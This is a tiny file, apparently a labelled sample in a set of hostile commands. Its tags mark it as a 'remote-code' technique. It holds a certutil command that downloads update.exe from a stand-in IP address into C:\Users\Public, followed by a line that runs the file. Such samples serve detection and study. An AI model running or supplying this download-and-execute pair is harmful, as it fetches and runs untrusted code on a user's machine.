# description: Downloads an executable with certutil -urlcache and runs it.
# family: remote-code
certutil.exe -urlcache -split -f http://203.0.113.20/update.exe C:\Users\Public\update.exe
C:\Users\Public\update.exe
